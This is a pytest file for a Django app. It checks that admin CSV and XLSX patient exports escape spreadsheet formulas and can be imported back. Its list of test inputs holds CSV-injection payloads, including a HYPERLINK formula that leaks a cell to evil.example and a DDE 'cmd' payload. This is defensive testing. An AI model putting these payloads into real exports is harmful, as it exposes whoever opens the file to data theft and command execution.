"""Admin exports never hand a spreadsheet a live formula (CSV injection), and read back what they wrote."""

import io

import openpyxl
import pytest
import tablib
from django.contrib.auth.models import User

from adherence.resources import PatientResource
from entities.models import Patient
from smsportal.spreadsheet import spreadsheet_cell, spreadsheet_value
from tests.factories import PatientFactory

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "-2+3+cmd"]


@pytest.fixture
def hostile_patients(organization):
    return [
        PatientFactory(
            organization=organization,
            first_name=name,
            last_name="Doe",
            phone=f"+1202555017{i}",
            email=f"p{i}@example.org",
        )
        for i, name in enumerate(HOSTILE)
    ]


def _export(client, model, fmt_index):
    user = User.objects.create_superuser("root", "root@example.org", "pw")
    client.force_login(user)
    url = f"/admin/adherence/{model}/export/"
    form = client.get(url).context["form"]
    fields = {name: "on" for name, field in form.fields.items() if field.__class__.__name__ == "BooleanField"}
    formats = [str(value) for value, label in form.fields["format"].choices if label.lower() == fmt_index]
    response = client.post(url, {**fields, "format": formats[0], "resource": "0"})
    assert response.status_code == 200
    return response.content


def test_csv_export_escapes_formulas_but_not_phone_numbers(client, hostile_patients):
    content = _export(client, "patientroster", "csv").decode()

    rows = list(tablib.Dataset().load(content, format="csv").dict)
    names = {row["first_name"] for row in rows}
    assert names == {"'" + name for name in HOSTILE}
    assert {row["phone"] for row in rows} == {str(p.phone) for p in hostile_patients}  # +1202… stays a number


def test_xlsx_export_holds_text_not_formulas(client, hostile_patients):
    content = _export(client, "patientroster", "xlsx")

    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value is not None]
    assert cells and all(cell.data_type != "f" for cell in cells)
    assert {"'" + name for name in HOSTILE} <= {cell.value for cell in cells}


def test_an_exported_file_imports_back_to_the_same_names(organization, hostile_patients):
    dataset = PatientResource(organization=organization).export()
    Patient.objects.all().delete()

    result = PatientResource(organization=organization).import_data(tablib.Dataset().load(dataset.csv, "csv"))

    assert not result.has_errors() and not result.has_validation_errors()
    assert set(Patient.objects.values_list("first_name", flat=True)) == set(HOSTILE)


@pytest.mark.parametrize(
    "value,shown",
    [("=1+1", "'=1+1"), ("+12025550101", "+12025550101"), ("-5", "-5"), ("-A1", "'-A1"), ("plain", "plain"), (7, 7)],
)
def test_spreadsheet_cell(value, shown):
    assert spreadsheet_cell(value) == shown
    assert spreadsheet_value(spreadsheet_cell(value)) == value
